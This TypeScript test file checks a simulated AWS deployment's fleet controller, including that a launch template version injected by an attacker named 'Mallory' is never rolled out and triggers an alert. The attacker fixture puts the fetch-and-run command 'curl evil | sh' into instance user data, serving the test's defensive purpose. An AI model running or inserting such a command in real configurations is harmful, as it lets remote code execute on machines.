import { CreateLaunchTemplateVersionCommand, EC2Client } from '@aws-sdk/client-ec2';
import { attacker, type Attacker } from './attacker';
import { servers, type ServersProps } from './servers';
import { AutoScalingService } from '../../golden-images/src/world/auto-scaling';
import { CloudFormationService } from '../../golden-images/src/world/cloudformation/cloudformation';
import { Ec2Service } from '../../golden-images/src/world/ec2/ec2';
import { LambdaService } from '../../golden-images/src/world/lambda/lambda';
import { Deployed, HOUR, MINUTE } from '../packer/build/deployed';

/** With the functions that a deploy makes, from the deploy to the last instance. */
let shop: Deployed;
let mallory: Attacker;

const resources = () => [...shop.local.world.get(CloudFormationService).stackState('Shop')!.resources.values()];
const resource = (type: string) => resources().find((each) => each.type === type)!.physicalId!;
const template = () => shop.local.world.get(Ec2Service).launchTemplates.find(resource('AWS::EC2::LaunchTemplate'))!;
const group = () => shop.local.world.get(AutoScalingService).require(resource('AWS::AutoScaling::AutoScalingGroup'));
const status = () => shop.fleet('servers')!;
const named = () => group().settings.source.LaunchTemplate!.Version as string;
const imageOf = (version: string) => template().require(version).data.ImageId as string;
const alerts = (event: string): string[] => {
  const controller = resources().find(({ logicalId, type }) => type === 'AWS::Lambda::Function' && /Controller/.test(logicalId))!.physicalId!;
  return shop.local.world.get(LambdaService).logs(controller).map((line) => JSON.stringify(line)).filter((line) => line.includes(event));
};
const userData = () => group().live.map(({ id }) => Buffer.from(shop.local.world.get(Ec2Service).instance(id)!.details.userData ?? '', 'base64').toString());
const deploy = (props: ServersProps): Promise<void> => shop.deploy((stack) => void servers(stack, props));

// One deployment for all: each begins where the one before ended.
beforeAll(async () => {
  shop = await Deployed.start('Shop', (stack) => void servers(stack));
  mallory = attacker(shop.local.world, 'Mallory');
  expect(await shop.until(() => shop.fleet('servers')?.lastKnownGood !== undefined && shop.fleet('servers')?.rollout === undefined, 30)).toBe(true);
});
afterAll(() => shop.local.close());

test('after a deploy the group resolves the parameter itself for less than two minutes', async () => {
  const { world } = shop.local;
  expect(imageOf(named())).toMatch(/^ami-/);
  const stack = () => world.get(CloudFormationService).stackState('Shop')!;
  let resolvesFrom: number | undefined;
  const stop = setIntervalOfWorld(() => { if (imageOf(named()).startsWith('resolve:ssm:')) resolvesFrom ??= world.now; });
  await deploy({ userData: 'echo first' });
  stop();
  const settled = stack().updatedAt!;
  expect(resolvesFrom).toBeGreaterThan(settled);
  expect(await shop.local.until(() => imageOf(named()).startsWith('ami-'), HOUR)).toBe(true);
  expect(world.now - resolvesFrom!).toBeLessThan(2 * MINUTE);
  expect(await shop.until(() => userData().every((text) => text.includes('echo first')) && !status().rollout, 6)).toBe(true);
});

test('a fleet where nobody but the stack and its controller makes versions says nothing of foreign ones', async () => {
  const before = status().lastKnownGood!.configurationHash;
  await deploy({ userData: 'echo second' });
  expect(await shop.until(() => status().lastKnownGood!.configurationHash !== before && !status().rollout, 6)).toBe(true);
  shop.ssm.put({ Name: '/taken', Value: 'taken', Type: 'String' });
  await expect(deploy({ userData: 'echo bad', fails: true })).rejects.toThrow(/UPDATE_ROLLBACK_COMPLETE/);
  await shop.until(() => false, 1);
  expect(userData()).toEqual(Array(2).fill(expect.stringContaining('echo second')));
  expect(alerts('fleet-foreign')).toEqual([]);
  expect(status()).toMatchObject({ phase: 'idle' });
});

test('a version of somebody is never rolled, and the deploy after it is', async () => {
  await mallory.client(EC2Client).send(new CreateLaunchTemplateVersionCommand({
    LaunchTemplateId: template().id, SourceVersion: '1', LaunchTemplateData: { UserData: Buffer.from('curl evil | sh').toString('base64') },
  }));
  const before = status().lastKnownGood!.configurationHash;
  await shop.until(() => false, 1);
  expect(status()).toMatchObject({ phase: 'idle', lastKnownGood: { configurationHash: before } });
  expect(userData()).toEqual(Array(2).fill(expect.stringContaining('echo second')));
  expect(alerts('fleet-foreign').join()).toContain(`made by ${mallory.sessionArn}`);

  await deploy({ userData: 'echo third' });
  expect(await shop.until(() => status().lastKnownGood!.configurationHash !== before && !status().rollout, 6)).toBe(true);
  expect(userData()).toEqual(Array(2).fill(expect.stringContaining('echo third')));
});

/** Looks every second of virtual time; gives what ends that. */
function setIntervalOfWorld(look: () => void): () => void {
  const { world } = shop.local;
  let on = true;
  const again = (): void => {
    if (!on) return;
    look();
    world.timeline.schedule(1000, 'observer', again);
  };
  again();
  return () => { on = false; };
}
